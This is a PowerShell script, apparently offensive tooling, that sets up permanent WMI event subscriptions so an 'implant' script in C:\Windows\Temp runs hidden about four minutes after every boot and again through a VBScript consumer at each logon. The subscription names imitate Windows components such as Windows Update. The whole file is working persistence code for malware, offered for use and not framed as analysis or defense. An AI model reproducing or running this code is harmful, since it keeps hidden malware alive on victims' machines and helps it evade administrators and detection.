# Permanent WMI event subscription: runs the implant ~4 minutes after every boot.
$name = 'SCM Event Log Filter'
$cmd = "powershell.exe -NoP -NonI -W Hidden -File C:\Windows\Temp\wuauclt.ps1"

$filterArgs = @{
    Name           = $name
    EventNamespace = 'root\cimv2'
    QueryLanguage  = 'WQL'
    Query          = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"
}
$filter = Set-WmiInstance -Namespace 'root\subscription' -Class '__EventFilter' -Arguments $filterArgs

$consumer = Set-WmiInstance -Namespace 'root\subscription' -Class 'CommandLineEventConsumer' -Arguments @{
    Name                = $name
    CommandLineTemplate = $cmd
}

Set-WmiInstance -Namespace 'root\subscription' -Class '__FilterToConsumerBinding' -Arguments @{
    Filter   = $filter
    Consumer = $consumer
} | Out-Null

# CIM flavour of the same, for PowerShell 7 boxes
$f2 = New-CimInstance -Namespace 'root/subscription' -ClassName '__EventFilter' -Property @{
    Name = 'BVTFilter'; EventNamespace = 'root/cimv2'; QueryLanguage = 'WQL'
    Query = "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LogonSession'"
}
$c2 = New-CimInstance -Namespace 'root/subscription' -ClassName 'ActiveScriptEventConsumer' -Property @{
    Name = 'BVTConsumer'; ScriptingEngine = 'VBScript'
    ScriptText = 'CreateObject("WScript.Shell").Run "powershell -w hidden -File C:\Windows\Temp\wuauclt.ps1", 0'
}
New-CimInstance -Namespace 'root/subscription' -ClassName '__FilterToConsumerBinding' -Property @{
    Filter = [ref]$f2; Consumer = [ref]$c2
} | Out-Null
